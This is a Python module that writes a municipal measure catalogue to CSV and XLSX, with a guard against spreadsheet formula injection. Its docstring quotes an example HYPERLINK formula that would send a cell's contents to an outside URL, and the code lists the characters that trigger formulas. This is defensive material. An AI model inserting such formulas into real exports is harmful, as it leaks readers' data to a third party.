"""The measure catalogue as CSV and XLSX: one row per measure, from the same trace as the pages.

Sphinx-free: the build writes the files next to the HTML (linked from the catalogue page),
and tests read them back.

The exports are data, never formulas. A spreadsheet program reads a cell that starts with
``=``, ``+``, ``-`` or ``@`` (and, after a tab or carriage return, the same) as a formula, so a
measure named ``=HYPERLINK("https://…?"&A1,"Klikk")`` would run in the reader's spreadsheet
(CSV/formula injection, OWASP). Such values are written as text: in the XLSX as a string cell
marked with Excel's quote prefix (never a formula element), in the CSV with a leading ``'``,
the usual guard that spreadsheet programs show as text. Every other value is written as it is.
"""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path
from typing import Any

from ..core import HandbookData
from ..core.trace import Trace
from ..wording import lookup as tr
from .workbook import add_editing_sheets

CSV_DELIMITER = ";"
"""Norwegian spreadsheet programs expect ';' (the comma is the decimal separator)."""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP's CSV injection list)."""


def formula_like(value: str) -> bool:
    """Whether a spreadsheet could take ``value`` for a formula (it starts with one of FORMULA_STARTS)."""
    return value.startswith(FORMULA_STARTS)


def inert_csv_value(value: str) -> str:
    """``value`` with a leading ``'`` when it is formula-like, so a spreadsheet shows it as text."""
    return "'" + value if formula_like(value) else value


def file_stem(data: HandbookData) -> str:
    return f"tiltakskatalog-{data.slug}"


def measure_table(data: HandbookData, trace: Trace, lang: str) -> tuple[list[str], list[list[str]]]:
    keys = ["id", "name", "level", "target", "ages", "responsible", "status", "duties", "collaboration"]
    # A plan that names measures only as examples, or gives them no level, gets a column for each,
    # so the spreadsheet says what the catalogue page says; other plans keep their columns.
    marked = any(m.example or not m.level_in_plan for m in data.municipality.measures)
    if marked:
        keys += ["example", "level_reading"]
    headers = [tr(lang, f"export.col.{key}") for key in keys]
    collab = set(trace.collaboration)
    rows: list[list[str]] = []
    for m in data.municipality.measures:
        duties = []
        for f in trace.duties_of(m.id):
            citation = data.duty_citation(data.duties[f.duty])
            if citation not in duties:
                duties.append(citation)
        row = [
            m.id,
            m.name,
            m.level.value,
            m.target_group,
            f"{m.ages.min}–{m.ages.max}" if m.ages else "",
            "; ".join([*(data.services[s].name for s in m.responsible), *filter(None, [m.responsible_note])]),
            "; ".join(filter(None, [m.status.value if m.status else "", m.status_note or ""])),
            "; ".join(duties),
            tr(lang, "trace.yes" if m.id in collab else "trace.no"),
        ]
        if marked:
            row += [tr(lang, "trace.yes" if m.example else "trace.no")]
            row += [tr(lang, "trace.no" if m.level_in_plan else "trace.yes")]
        rows.append(row)
    return headers, rows


def write_csv(path: Path, headers: list[str], rows: list[list[str]]) -> Path:
    # utf-8-sig: Excel opens a CSV with a byte order mark as UTF-8 (æøå intact).
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        writer = csv.writer(f, delimiter=CSV_DELIMITER)
        for row in [headers, *rows]:
            writer.writerow([inert_csv_value(value) for value in row])
    return path


def write_xlsx(
    path: Path,
    headers: list[str],
    rows: list[list[str]],
    sheet: str,
    extra: Callable[[Any], None] | None = None,
) -> Path:
    """The catalogue sheet; ``extra(workbook)`` adds more sheets (the editing ones) before saving.

    The workbook is write-only: openpyxl streams each row as it is appended and fills one reusable
    cell with each plain value, where a normal workbook builds, styles and keeps some 30,000 cell
    objects at 1,000 measures (a quarter of the export's time). A write-only sheet takes its widths
    and frozen row before its first row, and leaves out the optional ``<dimension>`` element (a
    reader computes it); what a reader gets is otherwise the same XML.
    """
    from openpyxl import Workbook
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    from .workbook import text_cell

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(sheet)
    ws.freeze_panes = "A2"
    for i, header in enumerate(headers, start=1):
        width = max(len(header), *(len(r[i - 1]) for r in rows)) if rows else len(header)
        ws.column_dimensions[get_column_letter(i)].width = min(60, width + 2)
    bold = Font(bold=True)
    # openpyxl makes any string starting with '=' a formula; text_cell gives such a value as a string
    # cell with the quote prefix, which is never evaluated and stays text when edited in Excel.
    # An empty string stays an (empty) cell, as in the catalogue's rows.
    ws.append([text_cell(ws, header, font=bold, empty="") for header in headers])
    for row in rows:
        ws.append([text_cell(ws, value, empty="") for value in row])
    width = max([len(headers), *(len(r) for r in rows)])
    ws.auto_filter.ref = f"A1:{get_column_letter(max(1, width))}{len(rows) + 1}"
    if extra is not None:
        extra(wb)
    # A fixed timestamp keeps the file identical between builds of the same data.
    import datetime as dt

    wb.properties.created = wb.properties.modified = dt.datetime(2000, 1, 1)
    wb.save(path)
    from .deterministic import normalize_xlsx  # fixed zip member times and 'modified': same input, same bytes

    return normalize_xlsx(path)


def write_exports(outdir: Path, data: HandbookData, trace: Trace, lang: str) -> list[Path]:
    headers, rows = measure_table(data, trace, lang)
    stem = file_stem(data)
    return [
        write_csv(outdir / f"{stem}.csv", headers, rows),
        write_xlsx(
            outdir / f"{stem}.xlsx",
            headers,
            rows,
            tr(lang, "export.sheet"),
            extra=lambda wb: add_editing_sheets(wb, data, lang),
        ),
    ]
